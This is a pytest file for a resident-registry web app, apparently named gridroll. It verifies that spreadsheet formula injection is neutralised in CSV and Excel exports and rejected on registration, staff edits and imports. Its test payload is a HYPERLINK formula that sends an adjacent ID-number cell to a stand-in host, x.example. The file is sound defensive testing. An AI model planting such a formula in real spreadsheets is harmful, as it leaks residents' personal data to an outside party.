"""Formula injection: a name that is a live formula, in every Excel and CSV file gridroll writes.

The registry holds such a name as legacy data (written straight to the database, as an old import or a
hand edit would have); every export must show it as the text it is, and every door refuses a new one.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from gridroll.conftest import csv_bytes, make_user, new_id
from gridroll.labs.models import RetestTask
from gridroll.labs.services import import_results, write_issues
from gridroll.lib.text import starts_like_formula
from gridroll.reconcile.services import create_feed
from gridroll.residents.importing import ResidentImporter
from gridroll.residents.models import Resident
from gridroll.sampling.models import Tube

FORMULA = '=HYPERLINK("http://x.example/?"&L2,"点击核对")'
OTHERS = ["+1+1", "-2+3", "@SUM(1,2)", "\tTAB", "＝1+1"]


def assert_xlsx_safe(content: bytes, expected: str = FORMULA) -> None:
    """No formula anywhere in the file, and the hostile text is there as quote-prefixed text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found = False
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and starts_like_formula(cell.value):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                found = found or cell.value == expected
    assert found, f"{expected} not in the file"


def assert_csv_safe(content: bytes, expected: str = FORMULA) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + expected in cells
    assert not any(starts_like_formula(c) for c in cells)


@pytest.fixture
def evil(roll, people):
    """A resident of grid A whose name is a formula pointing at the ID number beside it."""
    resident = people[0]
    Resident.objects.filter(pk=resident.pk).update(name=FORMULA, note="@SUM(1,2)")
    resident.refresh_from_db()
    return resident


@pytest.fixture
def community_staff(tree):
    return make_user("jiaming", "community_staff", tree["community"])


def test_registry_export_from_the_page_and_the_command(evil, community_staff, login, tree, tmp_path):
    from gridroll.jobs.runner import run_pending

    # Above a grid the page's export is a background job (issue 18): the same writer makes its file.
    client = login(community_staff)
    job_page = client.post(reverse("areas:area_export", args=[tree["community"].pk]), {"format": "xlsx"})
    run_pending()
    response = client.get(job_page.url + "download/")
    assert response.status_code == 200
    assert_xlsx_safe(b"".join(response.streaming_content))
    grid = client.get(reverse("areas:area_export", args=[tree["grid_a"].pk]))
    assert_xlsx_safe(b"".join(grid.streaming_content))
    call_command("export_residents", str(tmp_path / "r.xlsx"))
    assert_xlsx_safe((tmp_path / "r.xlsx").read_bytes())
    call_command("export_residents", str(tmp_path / "r.csv"))
    assert_csv_safe((tmp_path / "r.csv").read_bytes())
    # And the export reads back unchanged (text in, the same text out).
    batch = ResidentImporter().run(tmp_path / "r.xlsx", dry_run=True)
    assert batch.rejected == 1 and batch.rejects.get().code == "formula_name"


def test_import_rejects_file_keeps_the_formula_as_text(tree, sub_admin, login):
    rows = [["网格", "楼栋", "房号", "姓名", "身份证号"], ["第一网格", "3号楼", "501", FORMULA, new_id()]]
    client = login(sub_admin)
    client.post(reverse("residents:import"), {"file": SimpleUploadedFile("t.csv", csv_bytes(rows))})
    from gridroll.residents.models import ImportBatch

    batch = ImportBatch.objects.get()
    assert batch.rejects.get().code == "formula_name"
    url = reverse("residents:import_rejects", args=[batch.pk])
    assert_xlsx_safe(client.get(url).content)
    assert_csv_safe(client.get(url + "?format=csv").content)


def test_rollcall_sheet_from_the_page_and_the_command(evil, grid_worker, login, tree, roll, tmp_path):
    url = reverse("rollcall:sheet_xlsx", args=[roll.pk, tree["grid_a"].pk])
    assert_xlsx_safe(login(grid_worker).get(url).content)
    out = tmp_path / "sheet.xlsx"
    call_command("export_rollcall", "--round", str(roll.pk), "--area", "第一网格", str(out))
    assert_xlsx_safe(out.read_bytes())


def test_reconcile_answer_from_the_page_and_the_command(evil, sub_admin, login, tree, roll, tmp_path):
    # As CSV: a spreadsheet library would store the name as a formula and calamine read back its value.
    data = csv_bytes(
        [["姓名", "身份证号", "备注"], [FORMULA, evil.document_number, "+1+1"], ["@x", "", "-2+3"]]
    )
    feed = create_feed(sub_admin, tree["community"], data, "list.csv", round_=roll)
    assert_xlsx_safe(login(sub_admin).get(reverse("reconcile:export", args=[feed.pk])).content)
    path = tmp_path / "list.csv"
    path.write_bytes(data)
    out = tmp_path / "answer.xlsx"
    call_command("reconcile", str(path), "--area", "测试区", "--round", str(roll.pk), "--out", str(out))
    assert_xlsx_safe(out.read_bytes())


def test_retest_list_and_lab_rejects(evil, sub_admin, login, roll, site):
    tube = Tube.objects.create(
        barcode="TUBE000099", round=roll, site=site, capacity=10, size=10, opened_at=roll.starts_at
    )
    RetestTask.objects.create(round=roll, resident=evil, tube=tube, kind="retest", created_at=roll.starts_at)
    response = login(sub_admin).get(reverse("labs:retests") + "?format=xlsx")
    assert_xlsx_safe(response.content)
    upload = import_results(csv_bytes([["管码", "结果"], [FORMULA, "阴性"], ["@A1", "+1+1"]]), "r.csv")
    assert upload.rejected == 2
    out = io.BytesIO()
    write_issues(upload, out, "rejects.xlsx")
    assert_xlsx_safe(out.getvalue())
    out = io.BytesIO()
    write_issues(upload, out, "rejects.csv")
    assert_csv_safe(out.getvalue())


@pytest.mark.parametrize("value", [FORMULA, *OTHERS])
def test_every_formula_prefix_is_neutralised_in_both_formats(value):
    from gridroll.core.exports import write_csv, write_xlsx

    out = io.BytesIO()
    write_xlsx([[value, "王芳", "-", "-5", "+8613812345678"]], out, header=["a", "b", "c", "d", "e"])
    book = load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for c in next(book.active.iter_rows(min_row=2))]
    assert cells[0].value == value and cells[0].data_type == "s" and cells[0].quotePrefix
    assert [c.value for c in cells[1:]] == ["王芳", "-", "-5", "+8613812345678"]  # harmless: untouched
    out = io.BytesIO()
    write_csv([[value, "王芳", "-"]], out)
    (row,) = csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")))
    assert row == ["'" + value, "王芳", "-"]


# ------------------------------------------------------------------------------ refused at every door


def test_registration_refuses_a_formula_name(tree, client):
    from gridroll.codes.tests.test_registration import register

    response = register(client, tree, name=FORMULA)
    assert response.status_code == 200 and "公式" in response.content.decode()
    response = register(client, tree, name="@王芳")
    assert "公式" in response.content.decode()
    assert not Resident.objects.exists()


def test_staff_form_refuses_a_formula_name(tree, grid_worker, login, resident_a):
    response = login(grid_worker).post(
        reverse("residents:edit", args=[resident_a.pk]),
        {
            "name": "+1+1",
            "sex": "F",
            "document_type": "id_card",
            "document_number": resident_a.document_number,
            "residence_type": "permanent",
            "status": "present",
            "reason": "test",
        },
    )
    assert response.status_code == 200 and "公式" in response.content.decode()
    resident_a.refresh_from_db()
    assert resident_a.name == "韩馨怡"


@pytest.mark.parametrize("name", [FORMULA, "-1+2", "@cmd", "＝1+1"])
def test_import_refuses_a_formula_name_with_its_reason(tree, name):
    rows = [["网格", "楼栋", "房号", "姓名", "身份证号"], ["第一网格", "3号楼", "501", name, new_id()]]
    batch = ResidentImporter().run(csv_bytes(rows), "t.csv")
    reject = batch.rejects.get()
    assert (reject.code, reject.column) == ("formula_name", "姓名") and "公式" in reject.message
    assert not Resident.objects.exists()
